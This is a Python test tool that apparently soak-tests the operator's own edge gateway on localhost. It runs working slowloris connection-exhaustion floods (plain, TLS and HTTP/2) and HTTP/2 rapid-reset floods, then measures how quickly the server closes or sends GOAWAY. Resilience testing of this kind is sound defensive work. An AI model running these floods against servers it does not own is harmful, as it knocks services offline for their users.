#!/usr/bin/env python3
"""Edge abuse probes (standard library only; driven by soak.sh and
slowloris.sh).

slowloris    COUNT silent sockets of one KIND against TARGET, held for
             DURATION seconds: each connects (from 127.0.0.2.. so that many
             sockets do not run out of ephemeral ports), finishes the TLS
             handshake (kinds tls: ALPN http/1.1; h2: ALPN h2) and then sends
             nothing. The time from the end of the handshake (plain: the TCP
             connection), when the socket falls silent, to the server's close
             (EOF or reset) is recorded for each one (and, apart, the time
             from the TCP connection: a handshake slowed by load counts
             there), and the socket is opened
             again at once, so the population stays at COUNT for the whole
             run (the first openings are spread over --stagger-ms, so that the
             sockets do not all open and close in step). At the end, sockets
             still open are counted with their age. Prints one line,
             `RESULT {json}`: close times (ms) p50/p99/max, how many closed
             later than --limit-ms and how many were still open past it, the
             handshake times, and how late this client's own event loop ran
             (a busy client sees closes late).
             --status FILE is rewritten every second with `open=N closed=M`.

rapid-reset  HTTP/2 rapid reset over TLS (ALPN h2): connection preface,
             SETTINGS, then pairs of HEADERS (GET --path, END_STREAM) and
             RST_STREAM (CANCEL) on the same stream, --batch pairs per write,
             until the server sends GOAWAY or closes, or --max-streams were
             sent; then a new connection, until DURATION has passed. HPACK:
             static-table indices and literals without indexing. Prints one
             line, `RESULT {json}`: per connection, the streams sent until
             the GOAWAY (or close) was seen (client-side buffering included)
             and the GOAWAY's last stream id (what the server took in),
             how connections ended, and the responses the server still sent
             for reset streams.

    edge_probe.py slowloris --target 127.0.0.1:18680 --kind plain --count 1000 --duration 30 --limit-ms 6000
    edge_probe.py rapid-reset --target 127.0.0.1:18643 --authority rapid.localhost --duration 30
"""

import argparse
import asyncio
import bisect
import errno
import json
import os
import random
import select
import signal
import socket
import ssl
import statistics
import struct
import sys
import time


def client_context(alpn):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    if alpn:
        ctx.set_alpn_protocols(alpn)
    return ctx


def quiet_loop(loop):
    # A server that closes a TLS socket without close_notify, or resets it,
    # makes asyncio log tracebacks: those closes are what we measure.
    loop.set_exception_handler(lambda loop, context: None)


def split_target(target):
    host, port = target.rsplit(":", 1)
    return host, int(port)


# --------------------------------------------------------------- slowloris


class Histogram:
    """Close times in whole milliseconds (exact max kept aside)."""

    def __init__(self):
        self.counts = {}
        self.n = 0
        self.max = 0.0

    def add(self, ms):
        self.counts[int(ms)] = self.counts.get(int(ms), 0) + 1
        self.n += 1
        self.max = max(self.max, ms)

    def pct(self, q):
        if not self.n:
            return None
        rank = max(1, int(q / 100 * self.n + 0.999999))
        seen = 0
        for ms in sorted(self.counts):
            seen += self.counts[ms]
            if seen >= rank:
                return ms
        return int(self.max)

    def over(self, limit):
        return sum(c for ms, c in self.counts.items() if ms > limit) if self.n else 0


class Slowloris:
    def __init__(self, args):
        self.args = args
        self.host, self.port = split_target(args.target)
        self.kind = args.kind
        self.ctx = None
        if self.kind == "tls":
            self.ctx = client_context(["http/1.1"])
        elif self.kind == "h2":
            self.ctx = client_context(["h2"])
        self.closes = Histogram()  # from the end of the handshake (the silence)
        self.closes_conn = Histogram()  # from the TCP connection
        self.handshakes = Histogram()
        self.lag = Histogram()  # how late this client's event loop wakes up
        self.lag_samples = []  # (time, ms late), every 100 ms
        self.late = []  # (time, close ms) of the closes past --limit-ms
        self.resets = 0
        self.errors = {}
        self.alpn_mismatch = 0
        self.open = {}  # socket serial -> time the TCP connection was made
        self.silent = {}  # socket serial -> time it became silent (handshake done)
        self.opened = 0
        self.sources = [f"127.0.0.{2 + i}" for i in range(args.sources)] if args.sources else [None]
        self.end = 0.0

    def error(self, name):
        self.errors[name] = self.errors.get(name, 0) + 1

    # The sockets are driven by hand (loop.add_reader and a non-blocking
    # ssl.SSLSocket) rather than through asyncio's SSL transport, which costs
    # several times the CPU per handshake: a busy probe would see the
    # server's closes late.
    # ready() returns the time its callback ran, right after the selector
    # saw the socket ready: a close is timed then, not when this task gets
    # its turn (which, with thousands of sockets, can be much later).
    @staticmethod
    async def ready(loop, fd, write, timeout):
        fut = loop.create_future()
        add, remove = (loop.add_writer, loop.remove_writer) if write else (loop.add_reader, loop.remove_reader)
        add(fd, lambda: fut.done() or fut.set_result(loop.time()))
        try:
            return await asyncio.wait_for(fut, timeout)
        finally:
            remove(fd)

    async def handshake(self, loop, tls):
        deadline = min(loop.time() + 15, self.end)
        while True:
            try:
                tls.do_handshake()
                return
            except ssl.SSLWantReadError:
                await self.ready(loop, tls.fileno(), False, max(0.001, deadline - loop.time()))
            except ssl.SSLWantWriteError:
                await self.ready(loop, tls.fileno(), True, max(0.001, deadline - loop.time()))

    async def one(self, serial, delay):
        loop = asyncio.get_running_loop()
        await asyncio.sleep(delay)
        while loop.time() < self.end:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            try:
                src = self.sources[(serial + self.opened) % len(self.sources)]
                if src:
                    sock.bind((src, 0))
                err = sock.connect_ex((self.host, self.port))
                if err not in (0, errno.EINPROGRESS):
                    raise OSError(err, os.strerror(err))
                # t0: when the selector saw the connection made.
                t0 = await self.ready(loop, sock.fileno(), True, 10) if err else loop.time()
                err = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    raise OSError(err, os.strerror(err))
            except asyncio.CancelledError:
                sock.close()
                raise
            except (OSError, asyncio.TimeoutError) as e:
                sock.close()
                self.error("connect:" + (errno.errorcode.get(e.errno, type(e).__name__)
                                         if isinstance(e, OSError) and e.errno else type(e).__name__))
                await asyncio.sleep(0.2)
                continue
            self.open[serial] = t0
            self.opened += 1
            conn = sock
            if self.ctx is not None:
                conn = self.ctx.wrap_socket(sock, server_hostname=self.args.sni, do_handshake_on_connect=False)
                try:
                    await self.handshake(loop, conn)
                except asyncio.CancelledError:
                    conn.close()
                    raise
                except (OSError, ssl.SSLError, asyncio.TimeoutError) as e:
                    # No handshake: not a silent socket (the run's end, or
                    # the server refused it): counted apart, not timed.
                    self.open.pop(serial, None)
                    conn.close()
                    if loop.time() < self.end:
                        self.error("handshake:" + type(e).__name__)
                        await asyncio.sleep(0.2)
                    continue
                self.handshakes.add((loop.time() - t0) * 1000)
                if conn.selected_alpn_protocol() != ("h2" if self.kind == "h2" else "http/1.1"):
                    self.alpn_mismatch += 1
            t_silent = loop.time()
            self.silent[serial] = t_silent
            try:
                # Anything the server sends (an HTTP/2 server's SETTINGS, a
                # GOAWAY, a 408, TLS session tickets) is read and ignored: we
                # wait for the close.
                t1 = None
                while True:
                    t1 = await self.ready(loop, conn.fileno(), False, None)
                    try:
                        data = conn.recv(4096)
                    except (ssl.SSLWantReadError, BlockingIOError):
                        continue
                    if not data:
                        break
            except asyncio.CancelledError:
                conn.close()
                raise
            except ConnectionResetError:
                self.resets += 1
            except (ssl.SSLError, OSError):
                pass
            t1 = t1 or loop.time()
            conn.close()
            self.open.pop(serial, None)
            self.silent.pop(serial, None)
            self.closes.add((t1 - t_silent) * 1000)
            self.closes_conn.add((t1 - t0) * 1000)
            if (t1 - t_silent) * 1000 > self.args.limit_ms:
                self.late.append((t1, (t1 - t_silent) * 1000))
            await asyncio.sleep(random.uniform(0, 0.02))

    async def status(self):
        path = self.args.status
        while True:
            tmp = path + ".tmp"
            with open(tmp, "w") as f:
                f.write(f"open={len(self.open)} closed={self.closes.n} opened={self.opened}\n")
            os.replace(tmp, path)
            await asyncio.sleep(1)

    async def lag_monitor(self):
        loop = asyncio.get_running_loop()
        while True:
            t = loop.time()
            await asyncio.sleep(0.1)
            late = max(0.0, (loop.time() - t - 0.1) * 1000)
            self.lag.add(late)
            self.lag_samples.append((loop.time(), late))

    async def run(self):
        loop = asyncio.get_running_loop()
        quiet_loop(loop)
        self.end = loop.time() + self.args.duration
        lag = asyncio.create_task(self.lag_monitor())
        stagger = self.args.stagger_ms / 1000
        tasks = [asyncio.create_task(self.one(i, stagger * i / max(1, self.args.count)))
                 for i in range(self.args.count)]
        st = asyncio.create_task(self.status()) if self.args.status else None
        await asyncio.sleep(max(0, self.end - loop.time()))
        now = loop.time()
        ages = [(now - t0) * 1000 for t0 in self.silent.values()]
        for t in tasks:
            t.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        lag.cancel()
        if st:
            st.cancel()
        limit = self.args.limit_ms
        # A close seen late while this probe's own loop was late by L ms was
        # (at most L ms) earlier: each late close less the worst lag seen
        # within a second of it. A figure to read beside the raw one when
        # the machine is busy, not a replacement (a CPU-starved gateway is
        # late too, and would be excused with it).
        times = [s[0] for s in self.lag_samples]
        less_lag = []
        for t1, ms in self.late:
            lo, hi = bisect.bisect_left(times, t1 - 1), bisect.bisect_right(times, t1 + 1)
            less_lag.append(ms - max((s[1] for s in self.lag_samples[lo:hi]), default=0.0))
        res = {
            "kind": self.kind,
            "count": self.args.count,
            "opened": self.opened,
            "closed": self.closes.n,
            "resets": self.resets,
            "close_p50_ms": self.closes.pct(50),
            "close_p99_ms": self.closes.pct(99),
            "close_max_ms": round(self.closes.max) if self.closes.n else None,
            "closed_late": self.closes.over(limit),
            "closed_late_less_lag": sum(1 for v in less_lag if v > limit),
            "close_max_less_lag_ms": (round(max(less_lag)) if less_lag else
                                      round(self.closes.max) if self.closes.n else None),
            "open_at_end": len(ages),
            "open_past_limit": sum(1 for a in ages if a > limit),
            "oldest_open_ms": round(max(ages)) if ages else None,
            "since_connect_p99_ms": self.closes_conn.pct(99),
            "since_connect_max_ms": round(self.closes_conn.max) if self.closes_conn.n else None,
            "handshake_p50_ms": self.handshakes.pct(50),
            "handshake_p99_ms": self.handshakes.pct(99),
            "handshake_max_ms": round(self.handshakes.max) if self.handshakes.n else None,
            "alpn_mismatch": self.alpn_mismatch,
            "client_lag_p99_ms": self.lag.pct(99),
            "client_lag_max_ms": round(self.lag.max) if self.lag.n else None,
            "errors": self.errors,
            "limit_ms": limit,
        }
        print("RESULT " + json.dumps(res), flush=True)


# ------------------------------------------------------------- rapid reset

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
H2_ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
             4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
             8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM",
             12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal_indexed_name(index, value):
    # Literal Header Field without Indexing, indexed name (RFC 7541 §6.2.2).
    v = value.encode()
    return hpack_int(index, 4) + hpack_int(len(v), 7) + v


def request_block(authority, path):
    return (bytes([0x82, 0x87])  # :method GET, :scheme https
            + hpack_literal_indexed_name(4, path)  # :path
            + hpack_literal_indexed_name(1, authority)  # :authority
            + hpack_literal_indexed_name(58, "rapid-reset-probe"))  # user-agent


class RapidReset:
    """One connection at a time, a blocking TLS socket: a batch of pairs is
    written, then whatever the server sent is read (select, no wait). A
    write that fails (the server closed; its RST) is not the end: what the
    server sent before, its GOAWAY, is still read to the end. (asyncio
    drops those bytes when a write fails, hence no asyncio here.)"""

    def __init__(self, args):
        self.args = args
        self.host, self.port = split_target(args.target)
        self.ctx = client_context(["h2"])
        self.conns = []  # per connection dicts
        self.errors = {}

    def error(self, name):
        self.errors[name] = self.errors.get(name, 0) + 1

    def parse(self, st, tls):
        buf = st["buf"]
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                break
            ftype, flags = buf[3], buf[4]
            stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            payload = buf[9:9 + length]
            buf = buf[9 + length:]
            if ftype == SETTINGS and not flags & ACK:
                st["to_send"].append(frame(SETTINGS, ACK, 0))
            elif ftype == PING and not flags & ACK:
                st["to_send"].append(frame(PING, ACK, 0, payload))
            elif ftype == GOAWAY and st["goaway"] is None:
                last = int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF
                code = int.from_bytes(payload[4:8], "big")
                st["goaway"] = {"last_stream_id": last, "error": H2_ERRORS.get(code, str(code))}
                st["sent_at_goaway"] = st["sent"]
            elif ftype == HEADERS and stream:
                st["responses"] += 1
            elif ftype == RST_STREAM:
                st["server_rsts"] += 1
        st["buf"] = buf

    def read_available(self, st, tls, wait):
        """Reads what is there (waiting up to `wait` s for the first bytes);
        sets eof at the end of the stream."""
        deadline = time.monotonic() + wait
        while True:
            if not tls.pending():
                left = deadline - time.monotonic()
                r, _, _ = select.select([tls], [], [], max(0.0, left))
                if not r:
                    return
            try:
                data = tls.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            except ssl.SSLZeroReturnError:
                st["eof"] = True
                return
            except (OSError, ssl.SSLError) as e:
                st["eof"] = True
                st["reset"] = type(e).__name__
                return
            if not data:
                st["eof"] = True
                return
            st["buf"] += data
            self.parse(st, tls)
            if wait == 0:
                deadline = 0  # no waiting once something was read

    def connection(self, end):
        st = {"sent": 0, "sent_at_goaway": None, "goaway": None, "eof": False, "responses": 0,
              "server_rsts": 0, "ended_by": None, "reset": None, "write_error": None,
              "buf": b"", "to_send": []}
        try:
            raw = socket.create_connection((self.host, self.port), timeout=10)
            tls = self.ctx.wrap_socket(raw, server_hostname=self.args.authority)
        except (OSError, ssl.SSLError) as e:
            self.error(type(e).__name__)
            time.sleep(0.2)
            return
        if tls.selected_alpn_protocol() != "h2":
            self.error("no-h2")
            tls.close()
            time.sleep(0.2)
            return
        t_open = time.monotonic()
        tls.settimeout(5)
        block = request_block(self.args.authority, self.args.path)
        rst = struct.pack(">I", CANCEL)
        stream = 1
        # SETTINGS_ENABLE_PUSH = 0, SETTINGS_INITIAL_WINDOW_SIZE = 1 MiB.
        out = [PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 2, 0) + struct.pack(">HI", 4, 1 << 20))]
        try:
            while (st["goaway"] is None and not st["eof"] and st["sent"] < self.args.max_streams
                   and time.monotonic() < end):
                for _ in range(self.args.batch):
                    out.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
                    out.append(frame(RST_STREAM, 0, stream, rst))
                    stream += 2
                tls.sendall(b"".join(st["to_send"] + out))
                st["to_send"], out = [], []
                st["sent"] += self.args.batch
                self.read_available(st, tls, 0)
        except (OSError, ssl.SSLError) as e:
            # The server closed while we wrote: what it sent before (a
            # GOAWAY) is still to be read.
            st["write_error"] = type(e).__name__
        if st["sent"] == 0 and not st["eof"] and st["goaway"] is None:
            tls.close()  # the run ended before this connection sent anything
            return
        # Give the server a moment to say GOAWAY or close.
        deadline = time.monotonic() + 2.0
        while not st["eof"] and time.monotonic() < deadline:
            self.read_available(st, tls, deadline - time.monotonic())
        st["ended_by"] = ("goaway" if st["goaway"] else "close" if st["eof"]
                          else "max-streams" if st["sent"] >= self.args.max_streams else "run-end")
        st["seconds"] = time.monotonic() - t_open
        del st["buf"], st["to_send"]
        try:
            tls.close()
        except OSError:
            pass
        self.conns.append(st)
        time.sleep(self.args.pause_ms / 1000)

    def run(self):
        end = time.monotonic() + self.args.duration
        while time.monotonic() < end:
            self.connection(end)
        done = [c for c in self.conns if c["ended_by"] != "run-end"] or self.conns
        before = [c["sent_at_goaway"] if c["sent_at_goaway"] is not None else c["sent"] for c in done]
        accepted = [(c["goaway"]["last_stream_id"] + 1) // 2 for c in done if c["goaway"]]
        codes = {}
        for c in self.conns:
            if c["goaway"]:
                codes[c["goaway"]["error"]] = codes.get(c["goaway"]["error"], 0) + 1

        def stats(values, digits=None):
            if not values:
                return None
            out = {"min": min(values), "median": statistics.median(values), "max": max(values)}
            return {k: round(v, digits) for k, v in out.items()} if digits is not None else out

        # How connections ended (goaway, close without GOAWAY, max-streams,
        # run-end), each with the streams sent and the seconds it lasted.
        ended = {}
        for how in sorted({c["ended_by"] for c in self.conns}):
            cs = [c for c in self.conns if c["ended_by"] == how]
            ended[how] = {"connections": len(cs), "streams": stats([c["sent"] for c in cs]),
                          "seconds": stats([c["seconds"] for c in cs], 3)}
        res = {
            "connections": len(self.conns),
            "streams_sent": sum(c["sent"] for c in self.conns),
            "sent_before_goaway_or_close": stats(before),
            "goaway_last_stream_accepted": stats(accepted),
            "ended_by": ended,
            "goaway_errors": codes,
            "responses": sum(c["responses"] for c in self.conns),
            "server_rsts": sum(c["server_rsts"] for c in self.conns),
            "errors": self.errors,
        }
        print("RESULT " + json.dumps(res), flush=True)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("slowloris")
    s.add_argument("--target", required=True)
    s.add_argument("--kind", choices=["plain", "tls", "h2"], required=True)
    s.add_argument("--count", type=int, required=True)
    s.add_argument("--duration", type=float, required=True)
    s.add_argument("--limit-ms", type=float, required=True)
    s.add_argument("--stagger-ms", type=float, default=5000)
    s.add_argument("--sources", type=int, default=8)
    s.add_argument("--sni", default="slow.localhost")
    s.add_argument("--status")
    r = sub.add_parser("rapid-reset")
    r.add_argument("--target", required=True)
    r.add_argument("--authority", default="rapid.localhost")
    r.add_argument("--path", default="/rapid-reset")
    r.add_argument("--duration", type=float, required=True)
    r.add_argument("--max-streams", type=int, default=10000)
    r.add_argument("--batch", type=int, default=10)
    r.add_argument("--pause-ms", type=float, default=100)
    args = p.parse_args()
    # SIGTERM from the driver: stop at once (the driver reads no result then).
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    if args.cmd == "slowloris":
        asyncio.run(Slowloris(args).run())
    else:
        RapidReset(args).run()


if __name__ == "__main__":
    main()
